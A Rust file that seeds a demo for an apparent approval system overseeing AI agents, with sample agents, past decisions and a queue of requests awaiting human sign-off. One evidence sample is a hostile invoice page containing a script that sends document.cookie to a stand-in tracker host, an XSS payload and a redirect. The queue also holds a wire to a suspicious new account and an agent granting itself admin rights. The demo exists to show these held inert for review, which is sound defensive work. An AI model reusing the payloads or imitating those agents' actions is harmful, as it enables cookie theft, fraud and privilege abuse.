//! The demo's story: five agents, one at each stage, at work for ACME's
//! finance and support teams; a queue with every kind of evidence; and a
//! history of decisions, corrections and outcomes.

use super::screenshot::{draw, Page};
use super::Demo;
use crate::startup::StartupError;
use app::policy::Stage;
use base64::Engine;
use serde_json::json;

fn png(page: Page, accent: [u8; 3]) -> String {
    base64::engine::general_purpose::STANDARD.encode(draw(page, accent))
}

const REMINDER_PLAN: &str = "## Plan\n\n1. Look up invoice **INV-2024-0117** in billing (overdue 21 days).\n\
2. Check the CRM: ACME has no open dispute.\n3. Send the *second reminder* template to `ap@acme.example`.\n\
4. Log the reminder on the customer record.\n\n> Escalate to a human if ACME replies with a dispute.";

const REMINDER_PROMPT: &str = "You are invoice-bot for ACME Corp's accounts receivable team.\n\n\
Task: chase overdue invoices politely. Never threaten, never offer discounts, never send more than \
one reminder a week per customer. Attach the invoice PDF link, not the PDF.";

/// A realistic page, including things a hostile page might carry: Belay
/// must show it inert (no script runs, no request leaves).
const REFUND_PAGE: &str = r#"<!doctype html>
<html><head><title>Billing · Invoice INV-2024-0099</title>
<meta http-equiv="refresh" content="0; url=https://tracker.example/steal">
<style>body{font-family:sans-serif;margin:2rem} .total{font-weight:bold}</style></head>
<body>
<h1>Invoice INV-2024-0099 — Globex Ltd</h1>
<table><tr><th>Item</th><th>Amount</th></tr>
<tr><td>Pro plan (annual)</td><td>€4,800.00</td></tr>
<tr><td>Seats ×3 (duplicate charge)</td><td>€450.00</td></tr>
<tr class="total"><td>Total charged</td><td>€5,250.00</td></tr></table>
<p>Customer note: "We were charged twice for the extra seats in March."</p>
<img src="https://tracker.example/pixel.gif" onerror="alert('xss')">
<script>fetch('https://tracker.example/exfil?c=' + document.cookie)</script>
<form action="https://tracker.example/submit"><button>Refund €450.00</button></form>
</body></html>"#;

pub async fn play(d: &Demo) -> Result<String, StartupError> {
    let invoice = d
        .agent(
            "invoice-bot",
            "Chases overdue invoices and settles billing mistakes for ACME's finance team",
            Stage::ActWithApproval,
        )
        .await?;
    d.grant(&invoice, "email.send", "", "").await?;
    d.grant(&invoice, "billing.refund", "amount <= 500", "")
        .await?;
    d.grant(&invoice, "crm.update_record", "", "").await?;
    d.used(&invoice, "email.send").await?;
    d.used(&invoice, "crm.update_record").await?;

    let planner = d
        .agent(
            "cleanup-planner",
            "Proposes clean-ups of stale CRM data for the data team to carry out",
            Stage::Propose,
        )
        .await?;
    d.grant(&planner, "records.delete", "", "crm/*").await?;
    d.used(&planner, "records.delete").await?;

    let docs = d
        .agent(
            "docs-bot",
            "Summarizes internal documents and keeps the support wiki current",
            Stage::ScopedAutonomy,
        )
        .await?;
    d.grant(&docs, "docs.summarize", "", "").await?;
    d.grant(&docs, "tickets.comment", "", "").await?;
    d.used(&docs, "docs.summarize").await?;
    d.used(&docs, "tickets.comment").await?;

    let drafter = d
        .agent(
            "reply-drafter",
            "Drafts first replies to support tickets for agents to edit",
            Stage::Draft,
        )
        .await?;
    d.grant(&drafter, "email.send", "", "").await?;

    let watcher = d
        .agent(
            "deploy-watcher",
            "Watches deploys and reports anomalies; acts on nothing",
            Stage::Observe,
        )
        .await?;

    // History first, so the queue's neighbours have a record.
    let mut decided = 0;
    for (i, customer) in ["initech", "umbrella", "hooli", "acme", "globex", "stark"]
        .iter()
        .enumerate()
    {
        let id = d
            .submit(&invoice, json!({
                "capability": "email.send", "target": format!("ap@{customer}.example"),
                "summary": format!("First reminder for invoice INV-2024-01{i:02} to {customer}"),
                "params": {"template": "first_reminder", "invoice": format!("INV-2024-01{i:02}")},
                "evidence": [{"type": "plan", "content": format!("1. Invoice overdue 7 days\n2. Send the first reminder to {customer}")}],
            }))
            .await?;
        decided += 1;
        match i {
            0..=2 => {
                d.approve(&d.rita, &id, None).await?;
                d.claim_and_report(&invoice, &id, true, "sent; message id <r-1@mail.acme>")
                    .await?;
            }
            3 => {
                let edited =
                    json!({"template": "first_reminder_friendly", "invoice": "INV-2024-0103"});
                d.approve(&d.sam, &id, Some(edited)).await?;
                d.claim_and_report(&invoice, &id, false, "SMTP 550: mailbox unavailable")
                    .await?;
            }
            4 => {
                d.reject(
                    &d.rita,
                    &id,
                    "Globex paid yesterday; the payment is still clearing",
                )
                .await?
            }
            _ => d.let_expire(&id).await?,
        }
    }
    for doc in [
        "Q3 on-call handbook",
        "Refund policy v4",
        "Release notes 2.18",
    ] {
        let id = d
            .submit(&docs, json!({
                "capability": "docs.summarize", "target": format!("wiki/{}", doc.to_lowercase().replace(' ', "-")),
                "summary": format!("Summarize '{doc}' for the support wiki"),
            }))
            .await?;
        d.report(&docs, &id, true, "summary published").await?;
        decided += 1;
    }

    // The queue: every evidence type, every reason to pause.
    let mut waiting = 0;
    d.submit(&invoice, json!({
        "capability": "email.send", "target": "ap@acme.example",
        "summary": "Second reminder for overdue invoice INV-2024-0117 (€12,400, 21 days late)",
        "params": {"template": "second_reminder", "invoice": "INV-2024-0117", "cc": "finance@acme.example"},
        "evidence": [
            {"type": "screenshot", "content_base64": png(Page::Compose, [37, 99, 235])},
            {"type": "plan", "media_type": "text/markdown", "content": REMINDER_PLAN},
            {"type": "prompt", "content": REMINDER_PROMPT},
            {"type": "events", "content": [
                {"at": "2026-11-24T09:12:03Z", "type": "navigation", "url": "https://billing.acme.example/invoices/INV-2024-0117"},
                {"at": "2026-11-24T09:12:05Z", "type": "extract", "detail": "invoice overdue 21 days, €12,400"},
                {"at": "2026-11-24T09:12:09Z", "type": "navigation", "url": "https://crm.acme.example/customers/acme"},
                {"at": "2026-11-24T09:12:11Z", "type": "check", "detail": "no open dispute"},
                {"at": "2026-11-24T09:12:20Z", "type": "navigation", "url": "https://mail.acme.example/compose"},
                {"at": "2026-11-24T09:12:31Z", "type": "fill", "detail": "template second_reminder"},
            ]},
        ],
    })).await?;
    waiting += 1;
    d.submit(&invoice, json!({
        "capability": "billing.refund", "target": "globex",
        "summary": "Refund €450 duplicate seat charge on invoice INV-2024-0099",
        "params": {"amount": 450, "currency": "EUR", "invoice": "INV-2024-0099", "reason": "duplicate charge"},
        "evidence": [
            {"type": "dom_snapshot", "content": REFUND_PAGE},
            {"type": "screenshot", "content_base64": png(Page::Refund, [22, 128, 92])},
            {"type": "request_log", "content": [
                {"method": "GET", "url": "https://billing.acme.example/api/invoices/INV-2024-0099", "status": 200, "duration_ms": 84,
                 "response_body": "{\"total\": 5250, \"lines\": 3}"},
                {"method": "GET", "url": "https://billing.acme.example/api/charges?invoice=INV-2024-0099", "status": 200, "duration_ms": 131},
                {"method": "POST", "url": "https://billing.acme.example/api/refunds/preview", "status": 200, "duration_ms": 240,
                 "request_body": "{\"amount\": 450, \"currency\": \"EUR\"}", "response_body": "{\"ok\": true}"},
            ]},
            {"type": "extracted_data", "content": [
                {"charge": "ch_901", "item": "Seats ×3", "amount": 450, "date": "2026-03-02"},
                {"charge": "ch_902", "item": "Seats ×3", "amount": 450, "date": "2026-03-02"},
            ]},
        ],
    })).await?;
    waiting += 1;
    d.submit(&invoice, json!({
        "capability": "crm.update_record", "target": "crm/customers/globex",
        "summary": "Mark Globex's March duplicate charge as resolved",
        "params": {"field": "billing_status", "value": "resolved"},
        "evidence": [{"type": "diff", "content": {"before": {"billing_status": "disputed", "note": "duplicate seats"},
                                                   "after": {"billing_status": "resolved", "note": "refund of €450 requested"}}}],
    })).await?;
    waiting += 1;
    d.submit(&invoice, json!({
        "capability": "payments.wire", "target": "IBAN DE89 3704 0044 0532 0130 00",
        "summary": "Wire €12,400 to a new supplier account",
        "params": {"amount": 12400, "currency": "EUR"},
        "evidence": [{"type": "plan", "content": "The supplier asked by email to pay into a new account."}],
    })).await?;
    waiting += 1;
    d.submit(&planner, json!({
        "capability": "records.delete", "target": "crm/leads/stale-2019",
        "summary": "Delete 1,204 leads with no activity since 2019",
        "params": {"filter": "last_activity < 2020-01-01", "count": 1204},
        "evidence": [
            {"type": "screenshot", "content_base64": png(Page::Records, [124, 58, 237])},
            {"type": "diff", "content": "--- crm/leads (before)\n+++ crm/leads (after)\n-lead 8812 Hooli Inc (last activity 2019-04-02)\n-lead 8813 Pied Piper (last activity 2019-06-17)\n-lead 9020 Aviato (last activity 2019-11-30)\n lead 9321 Raviga (last activity 2024-02-11)\n"},
            {"type": "plan", "content": "1. Export the 1,204 leads to the archive bucket\n2. Delete them from the CRM\n3. Post the archive link in #data"},
        ],
    })).await?;
    waiting += 1;
    d.submit(
        &docs,
        json!({
            "capability": "access.grant", "target": "wiki/admins",
            "summary": "Give itself admin rights on the wiki to fix broken pages",
            "params": {"role": "admin"},
        }),
    )
    .await?;
    waiting += 1;
    d.submit(&drafter, json!({
        "capability": "email.send", "target": "customer-5531",
        "summary": "Draft reply: how to reset two-factor authentication",
        "params": {"ticket": 5531},
        "evidence": [{"type": "prompt", "content": "Draft a friendly reply; link the 2FA reset guide."}],
    })).await?;
    d.submit(&watcher, json!({
        "capability": "deploy.release", "target": "prod/web",
        "summary": "Deploy 2.18.1 shows 3% 5xx; rollback suggested",
        "observation": "Error rate rose from 0.2% to 3.1% within 4 minutes of the 2.18.1 rollout.",
    })).await?;
    // A promotion for another lead (admin) to decide: lena sponsors the
    // drafter, so she may open the review but never approve it.
    app::trust::promotion::open(
        &d.state,
        &d.lena,
        app::trust::promotion::Proposal {
            agent_id: drafter.principal.agent_id.clone(),
            to: Stage::Propose,
            capabilities: vec![],
            max_per_hour: None,
            case_text: "Support agents have sent its drafts with light edits for weeks. \
                        Let it propose replies directly, still approved one by one."
                .into(),
        },
    )
    .await?;
    Ok(format!(
        "5 agents (one at each stage), {waiting} requests waiting for approval, {decided} decided with outcomes, \
         a draft, an observation and a promotion review waiting for a second lead"
    ))
}
